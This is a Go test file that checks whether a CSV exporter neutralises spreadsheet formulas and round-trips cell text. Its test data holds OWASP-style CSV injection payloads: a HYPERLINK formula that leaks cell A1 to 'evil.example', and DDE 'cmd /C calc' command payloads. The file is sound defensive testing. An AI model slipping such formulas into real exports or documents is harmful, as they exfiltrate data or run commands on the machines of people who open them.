package export

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/laborlens/laborlens/dataset"
)

// hostileTitles are cells a spreadsheet would evaluate (OWASP's CSV
// injection examples), and texts that look like their neutralised form.
var hostileTitles = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`'=already neutral`,
	`''=two apostrophes`,
	`'plain apostrophe`,
}

// A CSV export neutralises every cell a spreadsheet would evaluate, and
// loads back into LaborLens with the original text.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	d := sample(t)
	events := pointers(d)
	for i, title := range hostileTitles {
		e := events[i%len(events)]
		if i >= len(events) {
			c := *e
			c.ID = e.ID + "-" + string(rune('a'+i))
			c.Sources = []dataset.Source{{URL: "https://example.org/hostile/" + c.ID}}
			e = &c
			events = append(events, e)
		}
		e.Title = title
	}
	events[0].Outcome = "=1+1"
	events[0].Tags = []string{"@tag", "x"}
	b := CSV(d, events, Citation(d, `http://x/?kind=strike,=HYPERLINK("http://evil.example"),+1`))

	first, rest, _ := strings.Cut(string(b), "\n")
	for _, cell := range strings.FieldsFunc(first, func(r rune) bool { return r == ',' || r == ';' }) {
		if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
			t.Errorf("the citation line has a cell %q that a spreadsheet evaluates: %s", cell, first)
		}
	}
	rows, err := csv.NewReader(strings.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s: cell %q would be evaluated by a spreadsheet", dataset.CSVHeader()[j], cell)
			}
		}
	}
	back, err := dataset.Parse("export.csv", b)
	if err != nil {
		t.Fatalf("the CSV export does not load back: %v", err)
	}
	titles := map[string]bool{}
	for _, e := range back.Events {
		titles[e.Title] = true
		if e.ID == events[0].ID && (e.Outcome != "=1+1" || strings.Join(e.Tags, ";") != "@tag;x") {
			t.Errorf("outcome %q, tags %q after the round trip", e.Outcome, e.Tags)
		}
	}
	for _, title := range hostileTitles {
		if !titles[title] {
			t.Errorf("title %q did not come back from the CSV; titles: %v", title, titles)
		}
	}
}

// EscapeCell and UnescapeCell are inverse on every string.
func FuzzEscapeCell(f *testing.F) {
	for _, s := range append(hostileTitles, "", "'", "''", "'''", "=", "\t", "'\r", "a") {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		e := dataset.EscapeCell(s)
		if got := dataset.UnescapeCell(e); got != s {
			t.Fatalf("UnescapeCell(EscapeCell(%q)) = %q (escaped %q)", s, got, e)
		}
		if e != "" && strings.ContainsRune("=+-@\t\r", rune(e[0])) {
			t.Fatalf("EscapeCell(%q) = %q still starts a formula", s, e)
		}
	})
}
